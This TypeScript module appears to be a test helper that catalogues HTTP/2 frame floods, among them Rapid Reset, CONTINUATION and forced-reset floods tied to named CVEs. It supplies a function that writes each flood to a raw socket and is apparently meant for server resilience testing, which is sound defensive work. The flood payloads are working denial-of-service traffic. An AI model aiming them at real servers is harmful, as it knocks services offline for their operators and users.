// Floods of HTTP/2 frames by name: what peers have sent to bring servers down.
import type { Socket } from "node:net";
import { setTimeout as sleep } from "node:timers/promises";
import { chatHead, FRAME, frame, headerBlock, type RawH2 } from "./h2-frames.ts";

/** So long a peer that takes nothing is waited for. */
const PATIENCE_MS = 50;

/** Writes the same bytes again and again until the connection ends or `times` are over. */
export async function flood({ socket }: RawH2, times: number, bytes: (at: number) => Buffer): Promise<void> {
  for (let at = 0; at < times && !socket.destroyed; at++) {
    if (!socket.write(bytes(at))) await drained(socket);
    if (at % 50 === 0) await sleep(1);
  }
}

async function drained(socket: Socket): Promise<void> {
  const { promise, resolve } = Promise.withResolvers<void>();
  const timer = setTimeout(resolve, PATIENCE_MS);
  socket.once("drain", resolve);
  await promise;
  clearTimeout(timer);
  socket.off("drain", resolve);
}

const HEADERS_END = 4;
const stream = (at: number): number => 2 * at + 1;
const four = (value: number): Buffer => {
  const bytes = Buffer.alloc(4);
  bytes.writeUInt32BE(value);
  return bytes;
};

/** A call that begins, and what its peer says of its stream. */
const begun = (at: number, said: Buffer): Buffer =>
  Buffer.concat([frame(FRAME.HEADERS, HEADERS_END, stream(at), chatHead()), said]);

export const ping = (): Buffer => frame(FRAME.PING, 0, 0, Buffer.alloc(8));

export const RAPID_RESET = "HEADERS and RST_STREAM (CVE-2023-44487)";

/** So many times the bytes that are made for each; none of them has a licence. */
export const FLOODS: readonly (readonly [title: string, times: number, bytes: (at: number) => Buffer])[] = [
  [
    "CONTINUATION without an end (CVE-2024-27983)",
    3_000,
    (at) =>
      at === 0
        ? frame(FRAME.HEADERS, 0, 1, chatHead())
        : frame(FRAME.CONTINUATION, 0, 1, headerBlock({ [`x${at}`]: "y".repeat(100) })),
  ],
  ["SETTINGS", 5_000, () => frame(FRAME.SETTINGS, 0, 0, Buffer.from("000300000064", "hex"))],
  ["PRIORITY", 5_000, (at) => frame(FRAME.PRIORITY, 0, stream(at), Buffer.from([0, 0, 0, 0, 16]))],
  [
    "empty DATA",
    5_000,
    (at) => (at === 0 ? frame(FRAME.HEADERS, HEADERS_END, 1, chatHead()) : frame(FRAME.DATA, 0, 1, Buffer.alloc(0))),
  ],
  [RAPID_RESET, 3_000, (at) => begun(at, frame(FRAME.RST_STREAM, 0, stream(at), four(8)))],
  [
    "streams that it makes us reset (CVE-2025-8671)",
    3_000,
    (at) => begun(at, frame(FRAME.WINDOW_UPDATE, 0, stream(at), four(0))),
  ],
  ["windows that overflow", 200, (at) => begun(at, frame(FRAME.WINDOW_UPDATE, 0, stream(at), four(0x7fff_ffff)))],
  ["frames of unknown types", 5_000, (at) => frame(0x50 + (at % 100), at % 256, at % 7, Buffer.alloc(16))],
  ["frames that are too large", 5, () => frame(FRAME.DATA, 0, 1, Buffer.alloc(64), 0xff_ffff)],
  ["promises", 5, () => frame(FRAME.PUSH_PROMISE, HEADERS_END, 1, Buffer.concat([four(2), chatHead()]))],
];
